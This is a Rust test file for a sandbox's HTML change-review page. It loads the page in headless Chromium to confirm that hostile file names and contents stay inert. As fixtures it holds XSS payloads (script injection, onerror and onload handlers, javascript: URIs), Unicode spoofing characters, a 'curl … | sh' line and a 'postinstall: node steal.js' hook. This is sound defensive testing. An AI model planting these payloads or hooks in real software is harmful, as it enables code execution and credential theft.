//! The HTML page of a review in a real browser: Chromium, driven by WebDriver.

use std::fs;
use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

use base64::Engine;
use serde_json::{Value, json};

use crate::support::{As, Silo, free_port, has, skip};

/// Flags of a browser without a screen, which asks no server for updates. Root has no other sandbox for it.
const FLAGS: [&str; 8] = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
];

/// A browser; it ends with the test.
struct Browser {
    driver: Child,
    port: u16,
    session: String,
    _home: tempfile::TempDir,
}

impl Browser {
    fn start() -> Browser {
        let home = tempfile::tempdir().expect("a directory");
        let port = free_port();
        let mut driver = Command::new("chromedriver");
        driver.arg(format!("--port={port}")).env("HOME", home.path()).stdout(Stdio::piped()).stderr(Stdio::null());
        let mut driver = driver.spawn().expect("it starts");
        let out = BufReader::new(driver.stdout.take().expect("piped"));
        assert!(out.lines().any(|line| line.is_ok_and(|line| line.contains("started successfully"))), "the driver ended");
        let mut browser = Browser { driver, port, session: String::new(), _home: home };
        let profile = format!("--user-data-dir={}", browser._home.path().join("profile").display());
        let args: Vec<&str> = FLAGS.into_iter().chain([profile.as_str(), "--window-size=1000,760"]).collect();
        let options = json!({ "goog:chromeOptions": { "args": args }, "goog:loggingPrefs": { "performance": "ALL" } });
        let made = browser.call("POST", "", &json!({ "capabilities": { "alwaysMatch": options } }));
        browser.session = format!("/{}", made["sessionId"].as_str().expect("a session"));
        browser
    }

    /// Sends a command of WebDriver; returns its value.
    fn call(&self, method: &str, command: &str, body: &Value) -> Value {
        let (is_done, answer) = self.exchange(method, command, body).expect("the driver answers");
        assert!(is_done, "{command}: {answer}");
        answer["value"].clone()
    }

    fn exchange(&self, method: &str, command: &str, body: &Value) -> io::Result<(bool, Value)> {
        let body = if method == "POST" { body.to_string() } else { String::new() };
        let mut stream = TcpStream::connect(("127.0.0.1", self.port))?;
        let head = format!("{method} /session{}{command} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n", self.session);
        let request = format!("{head}Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}", body.len());
        stream.write_all(request.as_bytes())?;
        // The driver keeps the connection open.
        let mut answer = BufReader::new(stream);
        let (mut head, mut length) = (String::new(), 0);
        while !head.ends_with("\r\n\r\n") {
            let from = head.len();
            if answer.read_line(&mut head)? == 0 {
                return Err(io::ErrorKind::UnexpectedEof.into());
            }
            if let Some((_, value)) = head[from..].split_once(':').filter(|(name, _)| name.eq_ignore_ascii_case("content-length")) {
                length = value.trim().parse().unwrap_or(0);
            }
        }
        let mut body = vec![0; length];
        answer.read_exact(&mut body)?;
        Ok((head.starts_with("HTTP/1.1 200"), serde_json::from_slice(&body)?))
    }

    /// Evaluates an expression in the page.
    fn eval(&self, expression: &str) -> Value {
        self.call("POST", "/execute/sync", &json!({ "script": format!("return {expression}"), "args": [] }))
    }

    /// Types a text into the field of the filter.
    fn filter(&self, text: &str) {
        let found = self.call("POST", "/element", &json!({ "using": "css selector", "value": "#filter" }));
        let id = found.as_object().and_then(|found| found.values().next()).and_then(Value::as_str).expect("an element").to_owned();
        drop(self.call("POST", &format!("/element/{id}/clear"), &json!({})));
        drop(self.call("POST", &format!("/element/{id}/value"), &json!({ "text": text })));
    }

    /// The paths of all shown changes.
    fn shown(&self) -> Vec<String> {
        let rows = self.eval(
            "[...document.querySelectorAll('details')].filter((row) => !row.hidden).map((row) => row.querySelector('code').textContent)",
        );
        rows.as_array().expect("a list").iter().map(|row| row.as_str().expect("a path").to_owned()).collect()
    }

    /// The addresses that pages asked for since the last call; those of the browser's own start page do not count.
    fn requests(&self) -> Vec<String> {
        let entries = self.call("POST", "/se/log", &json!({ "type": "performance" }));
        let messages =
            entries.as_array().expect("a list").iter().filter_map(|entry| serde_json::from_str::<Value>(entry["message"].as_str()?).ok());
        let sent = messages.filter(|message| message["message"]["method"] == "Network.requestWillBeSent");
        let own =
            sent.filter(|message| message["message"]["params"]["documentURL"].as_str().is_none_or(|page| !page.starts_with("chrome")));
        own.filter_map(|message| Some(message["message"]["params"]["request"]["url"].as_str()?.to_owned())).collect()
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        // Ends the browser too. It fails if the driver has ended.
        if !self.session.is_empty() {
            drop(self.exchange("DELETE", "", &Value::Null));
        }
        // Fails if it has ended.
        let _ = self.driver.kill();
        let _ = self.driver.wait();
    }
}

/// Counts connections to a port of this machine.
fn listener() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let port = listener.local_addr().expect("bound").port();
    let count = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&count);
    thread::spawn(move || {
        for _ in listener.incoming() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, count)
}

/// Files whose names and contents try to run a script, and to load a file from this port.
const HOSTILE: &str = r#"
import os, sys
evil = '<img src=http://127.0.0.1:PORT/x onerror="window.ran=1">'
script = '</script><script>window.ran=1;fetch("http://127.0.0.1:PORT/y")</script>'
for number, text in enumerate([evil, script, '"><svg onload=window.ran=1>', 'javascript:window.ran=1', "\u202egnp.exe", "\x1b[31m"]):
    open("h%d-%s" % (number, text.replace("/", "\u2215")), "w").write(text + "\n")
os.makedirs("src", exist_ok=True)
open("src/main.py", "w").write("import sys\n\ndef main() -> int:\n    print('hello')\n    return 0\n" + script + "\n" + evil + "\n")
open(".envrc", "w").write("echo surprise\n")
os.symlink("javascript:window.ran=1//" + evil.replace("/", "\u2215"), "link")
os.symlink("\u202egnp.\u0430dmin", "src/two")
os.makedirs("gen\u202e\u0430dmin/node_modules")
open("gen\u202e\u0430dmin/node_modules/x.js", "w").write("x")
open("package.json", "w").write('{"scripts": {"\u202e\u0430dmin": "x"}}')
"#;

#[test]
fn the_page_shows_and_filters_changes_in_a_browser_and_nothing_of_them_runs() {
    if !has("chromium") || !has("chromedriver") {
        return skip("chromium and chromium-driver are not installed, so there is no browser to open the page with");
    }
    let silo = Silo::shared(As::Me);
    let (port, connections) = listener();
    let program = HOSTILE.replace("PORT", &port.to_string());
    let done = silo.run(["run", "--review", "--shim", "python3", "python", "--", "-c", &program]);
    assert_eq!(done.code, 0, "{done:?}");
    let page = silo.project().with_file_name("page.html");
    drop(silo.ok(["review", "--html", &page.display().to_string()]));
    let address = format!("file://{}", page.display());
    let browser = Browser::start();
    drop(browser.call("POST", "/url", &json!({ "url": address })));
    let shown = browser.shown();
    assert!(shown.len() == 13 && shown[0] == ".envrc", "{shown:?}");
    for (text, expect) in [("main.py", 1), ("direnv", 1), ("onerror", 1), ("no such change", 0), ("h", 6)] {
        browser.filter(text);
        let shown = browser.shown();
        assert_eq!(shown.len(), expect, "{text}: {shown:?}");
    }
    assert!(shown.iter().all(|path| !path.contains(['\u{202e}', '\u{1b}'])), "{shown:?}");
    // Every difference is there as text, opened or not.
    drop(browser.eval("[...document.querySelectorAll('details')].forEach((row) => { row.open = true; })"));
    let text = browser.eval("document.querySelector('#all').textContent");
    let text = text.as_str().expect("a text");
    assert!(text.contains("</script><script>window.ran=1") && text.contains("+echo surprise"), "{text}");
    // The page has no letters that act, hide, or look like others in a word.
    let all = browser.eval("document.body.textContent.replace(document.querySelector('#data').textContent, '')");
    let all = all.as_str().expect("a text");
    assert!(!all.contains(['\u{202e}', '\u{1b}', '\u{430}']), "{all}");
    for part in ["\\u{202e}gnp.\\u{430}dmin", "npm script \"\\u{202e}\\u{430}dmin\"", "gen\\u{202e}\\u{430}dmin/node_modules: 1 files"] {
        assert!(all.contains(part), "{part} of {all}");
    }
    assert_eq!(browser.eval("document.querySelectorAll('img, svg, iframe, a, script:not([type]):not(:last-of-type)').length"), 0);
    assert_eq!(browser.eval("[typeof window.ran, document.querySelectorAll('script').length]"), json!(["undefined", 2]));
    let requests = browser.requests();
    assert_eq!(requests, [address], "the page asks for nothing but itself");
    // A page that may load something would have asked here.
    assert_eq!(connections.load(Ordering::SeqCst), 0);
}

/// Writes the picture of the documentation: `SILO_BLESS=1 cargo test --test main -- page::`.
#[test]
fn the_picture_of_the_page_is_small() {
    let picture = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/review.png");
    if std::env::var_os("SILO_BLESS").is_some() && has("chromium") && has("chromedriver") {
        let silo = Silo::shared(As::Me);
        let project = silo.project().with_file_name("agent");
        fs::create_dir_all(project.join("src")).expect("our own project");
        fs::write(project.join("src/main.py"), "import sys\n\ndef main() -> int:\n    print('helo')\n    return 0\n")
            .expect("our own project");
        fs::write(project.join("package.json"), "{ \"name\": \"agent\" }\n").expect("our own project");
        let program = "import os\nopen('.envrc', 'w').write('curl -s https://example.com/x | sh\\n')\n\
            text = open('src/main.py').read().replace('helo', 'hello'); open('src/main.py', 'w').write(text)\n\
            open('package.json', 'w').write('{ \"name\": \"agent\", \"scripts\": { \"postinstall\": \"node steal.js\" } }\\n')\n\
            open('src/\\u0430dmin.py', 'w').write('# \\u202etxt\\n')\n\
            os.makedirs('node_modules/left-pad'); open('node_modules/left-pad/index.js', 'w').write('module.exports = 1\\n')";
        let mut run = silo.command(["run", "--review", "--shim", "python3", "python", "--", "-c", program]);
        assert!(run.current_dir(&project).status().expect("it starts").success());
        let page = silo.project().with_file_name("page.html");
        let mut write = silo.command(["review", "--html", &page.display().to_string()]);
        assert!(write.current_dir(&project).status().expect("it starts").success());
        // The picture has no path of this machine.
        let text = fs::read_to_string(&page)
            .expect("written")
            .replace(&fs::canonicalize(&project).expect("there").display().to_string(), "~/agent");
        fs::write(&page, text).expect("our own file");
        let browser = Browser::start();
        drop(browser.call("POST", "/url", &json!({ "url": format!("file://{}", page.display()) })));
        drop(browser.eval("[...document.querySelectorAll('details')].forEach((row) => { row.open = true; })"));
        let taken = browser.call("GET", "/screenshot", &Value::Null);
        let bytes = base64::engine::general_purpose::STANDARD.decode(taken.as_str().expect("a picture")).expect("base64");
        fs::write(&picture, bytes).expect("written");
    }
    let bytes = fs::read(&picture).expect("the picture of docs/review.md");
    assert!(bytes.starts_with(b"\x89PNG") && bytes.len() < 150_000, "{} bytes", bytes.len());
}
